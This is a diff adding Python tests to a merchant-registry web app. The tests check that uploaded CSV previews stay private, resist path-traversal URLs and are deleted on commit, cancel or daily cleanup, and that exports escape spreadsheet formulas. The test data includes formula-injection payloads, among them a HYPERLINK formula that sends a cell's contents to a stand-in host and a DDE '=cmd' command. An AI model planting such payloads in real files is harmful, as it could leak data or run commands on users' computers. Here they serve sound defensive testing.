@@ -368,6 +368,78 @@ async def test_only_the_uploader_can_commit_a_previewed_file(client) -> None:
     assert (await client.post("/merchants/import/commit", data=forged)).status_code == 409
 
 
+def _kept_files(settings) -> list:
+    return [p for p in (settings.media_dir.parent).rglob("*") if p.is_file() and p.suffix == ".csv"]
+
+
+async def test_a_previewed_file_is_private_and_gone_after_commit_or_cancel(client, settings) -> None:
+    await browser_login(client, LEADER)
+    data = csv_bytes([GOOD_HEADER, *GOOD_ROWS])
+    preview = await upload(client, data, "sach.csv")
+    assert 'action="/merchants/import/cancel"' in preview.text
+    [kept] = _kept_files(settings)
+    assert kept.read_bytes() == data
+    assert settings.media_dir not in kept.parents  # outside every served folder
+    user_id = kept.parent.name
+    for path in (
+        f"/media/imports/{user_id}/{kept.name}",
+        f"/media/../uploads/imports/{user_id}/{kept.name}",
+        f"/static/../../var/uploads/imports/{user_id}/{kept.name}",
+    ):
+        for who in (None, LEADER):
+            if who is None:
+                client.cookies.clear()
+            else:
+                await browser_login(client, who)
+            response = await client.get(path)
+            assert response.status_code in (403, 404), path
+            assert "Bún" not in response.text and "0912" not in response.text
+    await browser_login(client, LEADER)
+    token = csrf_from((await client.get("/merchants/import")).text)  # signed in again: a new token
+    form = {**commit_form(preview.text), "_csrf_token": token}
+    cancelled = await client.post(
+        "/merchants/import/cancel",
+        data={k: form[k] for k in ("sha256", "filename", "_csrf_token")},  # the cancel form's fields
+        follow_redirects=False,
+    )
+    assert cancelled.status_code == 303 and cancelled.headers["location"] == "/merchants/import"
+    assert _kept_files(settings) == []
+    after = await client.post("/merchants/import/commit", data=form, follow_redirects=False)
+    assert after.status_code == 409 and await count(client) == 0  # a cancelled file cannot be committed
+
+    committed = await client.post(
+        "/merchants/import/commit",
+        data=commit_form((await upload(client, data, "sach.csv")).text),
+        follow_redirects=False,
+    )
+    assert committed.status_code == 303 and await count(client) == 3
+    assert _kept_files(settings) == []
+
+
+async def test_the_daily_housekeeping_drops_day_old_previews(client, settings) -> None:
+    from datetime import timedelta
+
+    from service.db import create_engine
+    from service.housekeeping import Housekeeping
+    from service.web import utcnow
+
+    await browser_login(client, LEADER)
+    await upload(client, csv_bytes([GOOD_HEADER, *GOOD_ROWS]), "sach.csv")
+    legacy = settings.media_dir / "imports" / "someone" / ("0" * 64 + ".csv")  # where they once were
+    legacy.parent.mkdir(parents=True)
+    legacy.write_text("Tên,Số\nBún,0912 345 678\n")
+    engine = create_engine(settings)  # the test's own: the app's connections belong to its loop
+    housekeeping = Housekeeping(engine, settings)
+    try:
+        await housekeeping.run_once(now=utcnow() + timedelta(hours=23))
+        assert len(_kept_files(settings)) == 1  # a preview of today stays, until the day is over
+        assert not legacy.exists()
+        await housekeeping.run_once(now=utcnow() + timedelta(hours=25))
+        assert _kept_files(settings) == []
+    finally:
+        await engine.dispose()
+
+
 async def test_a_file_over_the_size_limit_is_refused_before_it_is_read(client) -> None:
     from service.merchants.spreadsheet import MAX_BYTES
 
@@ -470,6 +542,38 @@ async def test_export_csv_has_a_bom_and_reads_back_as_an_import(client) -> None:
     )
     assert row["consent_purposes"] == "storefront,contact"
     assert row["commune_code"] == "19753"
+
+
+FORMULAS = {
+    "business_name": '=HYPERLINK("http://example.invalid/?"&A1,"Xem")',
+    "market": "@SUM(1+1)",
+    "stall": "+1-1",
+    "notes": "-2+3 =cmd|' /C calc'!A0",
+}
+
+
+async def test_exported_text_never_runs_as_a_formula(client) -> None:
+    from service.merchants.spreadsheet import read_rows
+
+    created = await _register(client, VOLUNTEER, **FORMULAS, lat=16.46, lon=107.59)
+    await browser_login(client, LEADER)
+    book = openpyxl.load_workbook(io.BytesIO((await client.get("/merchants/export.xlsx")).content))
+    header = [cell.value for cell in book.active[1]]
+    [row] = [dict(zip(header, cells, strict=True)) for cells in book.active.iter_rows(min_row=2)]
+    for field, typed in FORMULAS.items():
+        cell = next(c for c in row.values() if c.value == typed)  # the value as typed ...
+        assert cell.data_type == "s", field  # ... stored as text, not a formula
+    assert row["Vĩ độ"].value == 16.46 and row["Vĩ độ"].data_type == "n"  # numbers stay numbers
+    assert row["Mã bản ghi"].value == created["id"]
+
+    text = (await client.get("/merchants/export.csv")).content.decode("utf-8-sig")
+    cells = next(csv.reader(io.StringIO(text.splitlines(keepends=True)[1])))
+    for typed in FORMULAS.values():
+        assert "'" + typed in cells  # marked as text for a spreadsheet program
+        assert typed not in cells
+    assert "16.46" in cells
+    [back] = read_rows(text.encode("utf-8-sig"), filename="export.csv").rows  # the importer unmarks it
+    assert {field: back[field] for field in FORMULAS} == FORMULAS
 
 
 async def test_export_over_the_api_and_volunteers_may_not_export(client) -> None:
